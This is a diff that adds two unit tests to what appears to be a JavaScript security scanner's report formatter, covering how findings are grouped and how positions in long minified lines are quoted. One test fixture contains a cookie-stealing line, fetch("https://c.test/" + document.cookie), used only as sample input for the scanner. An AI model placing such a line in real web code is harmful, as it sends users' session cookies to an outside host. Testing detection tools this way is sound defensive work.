@@ -44,3 +44,21 @@ test("sorted by severity, then by place; one per rule and place; each advice onc
 	expect(report.vulnerabilities[0]?.path).toEqual([{ description: "reads", line: 1, column: 1 }]);
 	expect(report.recommendations).toEqual(["Mind grave.", "Mind mild."]);
 });
+
+test("several findings of a rule at one place are reported when they are about different things", () => {
+	const about = (what: string): Finding => ({ ...finding("high", 5), about: what });
+	const { vulnerabilities } = reportFindings([rule("loads", [about("a"), about("b"), about("b")])], subject);
+	expect(vulnerabilities).toHaveLength(2);
+});
+
+test("a place in a long line is quoted, one in a short line is not", () => {
+	const long = `${"a();".repeat(80)}fetch("https://c.test/" + document.cookie);${"b();".repeat(80)}`;
+	const minified = parseSource({ code: `short();\n${long}` });
+	if (!minified.ok) throw new Error(minified.message);
+	const places = [0, minified.source.text.indexOf("fetch")].map((offset) => finding("low", offset));
+	const { vulnerabilities } = reportFindings([rule("mild", places)], { ...subject, source: minified.source });
+	expect(vulnerabilities.map(({ line, column, quote }) => [line, column, quote])).toEqual([
+		[1, 1, undefined],
+		[2, 321, expect.stringMatching(/^\);a\(\);a\(\);fetch\("https:\/\/c\.test\/" \+ document\.co/)],
+	]);
+});
